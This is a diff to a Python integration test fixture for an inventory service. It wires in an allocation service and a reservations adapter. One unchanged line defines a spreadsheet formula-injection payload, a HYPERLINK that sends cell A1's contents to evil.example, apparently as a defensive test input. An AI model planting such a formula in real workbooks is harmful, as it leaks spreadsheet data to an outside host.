@@ -11,10 +11,12 @@ from pathlib import Path
 
 import httpx
 import pytest
+from allocation_support import fresh_engine
 from http_support import STAFF, host_app, runtime
 from openpyxl import load_workbook
 
 from libs.database import create_engine, upgrade_schema
+from services.allocation.entrypoints.http import build_router as allocation_router
 from services.inventory.entrypoints.http import build_router
 
 pytestmark = pytest.mark.integration
@@ -27,7 +29,17 @@ EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 async def inventory(database_url: str) -> AsyncIterator[httpx.AsyncClient]:
     engine = create_engine(database_url, schema="inventory_it", pool_size=2)
     await upgrade_schema(engine, schema="inventory_it", versions_dir=VERSIONS)
-    app = host_app(build_router(runtime(engine)))
+    allocation_db = await fresh_engine(database_url)
+    try:  # once inventory asks allocation what is reserved: the real allocation API answers
+        from services.inventory.adapters.allocation_api import (  # type: ignore[import-not-found, unused-ignore]
+            AllocationReservations,
+        )
+    except ImportError:
+        app = host_app(build_router(runtime(engine)))
+    else:
+        allocation = host_app(allocation_router(runtime(allocation_db)))
+        reservations = AllocationReservations("http://allocation", transport=httpx.ASGITransport(app=allocation))
+        app = host_app(build_router(runtime(engine), reservations))  # type: ignore[call-arg, unused-ignore]
     async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://inventory",
                                  headers=STAFF) as client:
         location_id = f"WH-{uuid.uuid4().hex[:8]}"
@@ -39,6 +51,7 @@ async def inventory(database_url: str) -> AsyncIterator[httpx.AsyncClient]:
         client.location_id = location_id  # type: ignore[attr-defined]
         yield client
     await engine.dispose()
+    await allocation_db.dispose()
 
 
 async def upload(client: httpx.AsyncClient, name: str, content: bytes) -> httpx.Response:
